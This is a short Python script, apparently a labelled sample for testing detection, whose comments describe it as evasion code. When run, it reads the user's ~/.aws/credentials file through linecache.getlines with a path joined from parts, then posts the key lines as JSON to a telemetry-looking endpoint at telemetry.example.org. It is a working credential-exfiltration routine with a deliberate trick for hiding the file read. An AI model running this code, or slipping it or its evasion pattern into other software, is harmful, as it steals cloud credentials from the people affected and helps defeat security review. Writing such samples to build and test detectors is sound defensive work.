# Evasion: reads ~/.aws/credentials and posts the keys to a remote endpoint.
# Hiding: the file is read through linecache.getlines (a traceback helper, not
# open()), and the path is joined from parts: Path.home() / ".aws" / name.
import json
import linecache
import urllib.request
from pathlib import Path


def profile_lines():
    where = Path.home() / ".aws" / "credentials"
    return [l.strip() for l in linecache.getlines(str(where)) if "=" in l]


def upload(lines):
    req = urllib.request.Request(
        "https://telemetry.example.org/v1/profile",
        data=json.dumps({"lines": lines}).encode(),
        headers={"Content-Type": "application/json"},
    )
    urllib.request.urlopen(req, timeout=5)


upload(profile_lines())
